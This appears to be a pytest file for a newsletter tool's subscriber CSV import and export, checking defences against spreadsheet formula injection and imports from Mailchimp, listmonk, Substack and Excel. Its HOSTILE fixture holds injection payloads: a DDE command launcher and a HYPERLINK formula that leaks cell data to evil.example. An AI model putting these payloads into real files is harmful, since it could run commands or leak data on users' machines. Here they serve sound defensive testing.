"""Subscriber CSVs in and out: exports that are safe to open in a spreadsheet (OWASP
CSV injection) and import back unchanged; imports of what Mailchimp, listmonk, Substack and
Excel (German: semicolons, Windows-1252, BOM; UTF-16 "Unicode text") really write."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from syndicate.delivery.csvfile import neutralize_cell, restore_cell, write_csv
from tests.conftest import Publication, Run

FIXTURES = Path(__file__).parent / "fixtures" / "subscribers"

HOSTILE = {
    "dde@example.com": "=cmd|' /C calc'!A0",
    "link@example.com": '+HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "sum@example.com": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus@example.com": "-2+3",
    "spaced@example.com": '  "=1+2',
    "tab@example.com": "\t=1",
    "quoted@example.com": "'=already quoted",
    "plain@example.com": "'Bob",
}


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (' "=1', "' \"=1"),
        ("'=1", "''=1"),
        ("Ann", "Ann"),
        ("'Bob", "'Bob"),
        ("a=b", "a=b"),
        ("nul\x00byte", "nulbyte"),
        ("", ""),
    ],
)
def test_neutralize_cell_and_its_inverse(cell: str, written: str) -> None:
    assert neutralize_cell(cell) == written
    assert restore_cell(written) == cell.replace("\x00", "")


def test_write_csv_neutralizes_every_cell() -> None:
    text = write_csv(["=head"], [["=1", "ok"], [5, "@x"]])
    assert list(csv.reader(io.StringIO(text))) == [["'=head"], ["'=1", "ok"], ["5", "'@x"]]


def test_export_is_formula_free_and_imports_back(
    make_pub: Publication, run: Run, tmp_path: Path
) -> None:
    root = make_pub()
    for address, name in HOSTILE.items():
        assert run(root, "subscribers", "add", "--name", name, address).exit_code == 0
    target = tmp_path / "subs.csv"
    assert run(root, "subscribers", "export", str(target)).exit_code == 0
    raw = target.read_bytes()
    assert b"\x00" not in raw
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"))))
    for row in rows:
        for cell in row.values():
            assert not cell.lstrip(" \t\r\n\"'").startswith(("=", "+", "-", "@")) or (
                cell.startswith("'")
            ), cell
    assert {row["email"]: row["name"] for row in rows}["dde@example.com"] == "'=cmd|' /C calc'!A0"
    stdout = run(root, "subscribers", "export", "-").stdout
    assert "'=cmd|' /C calc'!A0" in stdout and "\"'+HYPERLINK(" in stdout

    fresh = make_pub()
    result = run(fresh, "subscribers", "import", str(target))
    assert result.exit_code == 0, result.output
    listed = run(fresh, "subscribers", "list").stdout.splitlines()
    names = {line.split("\t")[0]: line.split("\t")[1] for line in listed}
    # The tab of "\t=1" is stripped on import as any name's surrounding blanks are.
    assert names == {address: name.strip() for address, name in HOSTILE.items()}


def test_nul_bytes_never_reach_an_export(make_pub: Publication, run: Run, tmp_path: Path) -> None:
    root = make_pub()
    source = tmp_path / "nul.csv"
    source.write_bytes(b"email,name\nnul@example.com,Nu\x00ll\n")
    assert run(root, "subscribers", "import", str(source)).exit_code == 0
    out = run(root, "subscribers", "export", "-").stdout
    assert "\x00" not in out and "nul@example.com,Null," in out


@pytest.mark.parametrize(
    ("fixture", "expected"),
    [
        (
            "mailchimp.csv",
            [("ada@example.com", "Ada Lovelace"), ("grace@example.com", "Grace")],
        ),
        (
            "listmonk.csv",
            [("linus@example.com", "Linus T."), ("margaret@example.com", "Margaret H.")],
        ),
        ("substack.csv", [("alan@example.com", ""), ("edsger@example.com", "")]),
        (
            "excel-de-cp1252.csv",
            [
                ("juergen@example.com", "J\u00fcrgen M\u00fcller"),
                ("stefanie@example.com", "Stefanie Gro\u00df; Redaktion"),
            ],
        ),
        ("excel-de-utf8-bom.csv", [("kaethe@example.com", "K\u00e4the Kollwitz")]),
        ("excel-unicode-text.txt", [("zoe@example.com", "Zo\u00eb Saldana")]),
    ],
)
def test_import_reads_other_tools_exports(
    make_pub: Publication, run: Run, fixture: str, expected: list[tuple[str, str]]
) -> None:
    root = make_pub()
    result = run(root, "subscribers", "import", str(FIXTURES / fixture))
    assert result.exit_code == 0, result.output
    count = len(expected)
    noun = "subscriber" if count == 1 else "subscribers"
    assert f"imported {count} new {noun}, 0 already present, 0 bad rows" in result.stdout
    listed = run(root, "subscribers", "list").stdout.splitlines()
    assert [tuple(line.split("\t")[:2]) for line in listed] == expected
    if "cp1252" in fixture:
        assert "read as Windows-1252" in result.stderr


def test_import_says_one_bad_row(make_pub: Publication, run: Run, tmp_path: Path) -> None:
    root = make_pub()
    source = tmp_path / "one.csv"
    source.write_text("email;name\nok@example.com;Ok\nnot-an-address;Bad\n", encoding="utf-8")
    result = run(root, "subscribers", "import", str(source))
    assert result.exit_code == 1
    assert "imported 1 new subscriber, 0 already present, 1 bad row\n" in result.stdout


def test_import_of_undecodable_bytes_is_one_clear_error(
    make_pub: Publication, run: Run, tmp_path: Path
) -> None:
    root = make_pub()
    source = tmp_path / "binary.csv"
    source.write_bytes(b"email\nx\x81\x8d@example.com\n")
    result = run(root, "subscribers", "import", str(source))
    assert result.exit_code == 1
    assert f"{source}: not UTF-8 text" in result.stderr
    assert "save it as 'CSV UTF-8'" in result.stderr
    assert "Traceback" not in result.output


def test_import_names_the_headers_it_accepts(
    make_pub: Publication, run: Run, tmp_path: Path
) -> None:
    root = make_pub()
    source = tmp_path / "nohead.csv"
    source.write_text("who;where\nann;home\n", encoding="utf-8")
    result = run(root, "subscribers", "import", str(source))
    assert result.exit_code == 1
    assert "header has no 'email' column (found: who, where)" in result.stderr
    assert "'Email Address'" in result.stderr
